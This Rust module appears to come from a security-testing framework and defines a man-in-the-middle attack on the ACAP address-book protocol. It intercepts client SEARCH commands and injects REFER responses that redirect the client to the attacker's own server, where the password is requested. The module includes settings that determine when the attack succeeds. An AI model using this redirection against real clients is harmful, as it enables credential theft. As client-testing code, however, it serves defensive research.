//! Sends the client to its own server for the address book.

use super::cert_cname_dns::OWN_MACHINE;
use super::{Attack, Deciding, Group, tamper};
use crate::base::{Protocol, Side, Switch, switch};
use crate::harm::success;

switch!(
    Middle FORM,
    "refer-as",
    Setting,
    &["refusal", "data"],
    &[],
    "How the search is referred",
    "By the code REFER in a refusal of the search, or by a response REFER in front of the genuine answer."
);

static SWITCHES: &[&Switch] = &[&FORM];

static DECIDING: &[Deciding] = &[
    Deciding {
        protocols: &[Protocol::Acap],
        given: &["server.starttls=off", "server.mechanisms=plain+cram-md5", "client.referrals=followed"],
        right: &[],
        wrong: &["client.tls=opportunistic", "client.referrals-in-clear=on"],
    },
    Deciding {
        protocols: &[Protocol::Acap],
        given: &["server.starttls=off", "server.mechanisms=plain+cram-md5", "middle.refer-as=data"],
        right: &[],
        wrong: &["client.forgets-policy=on", "client.referrals-in-clear=on"],
    },
];

/// The attack.
pub static ATTACK: Attack = Attack {
    id: "referral-acap",
    title: "Refer the address book elsewhere",
    about: "Says in the clear that the address book is kept on a server of the attacker's. The login did not show the password; there it is asked for.",
    group: Group::Texts,
    known: &[],
    protocols: &[Protocol::Acap],
    switches: SWITCHES,
    build: |switches, dialect| {
        let refuses = switches.get(&FORM) == "refusal";
        tamper(move |message, moves| {
            let asked = (dialect.command)(message.octets)
                .filter(|asked| message.from == Side::Client && asked.name == "SEARCH");
            let Some(asked) = asked else {
                moves.pass();
                return;
            };
            let url = format!("acap://{OWN_MACHINE}/addressbook/~/");
            let answer = match refuses {
                true => format!(" NO (REFER \"{url}\") \"it is kept there\"\r\n"),
                false => format!(" REFER \"/addressbook/~/\" \"{url}\"\r\n"),
            };
            moves.answer([&asked.tag, answer.as_bytes()].concat());
            if !refuses {
                moves.pass();
            }
        })
    },
    success: &success::SENT_AWAY,
    deciding: DECIDING,
};
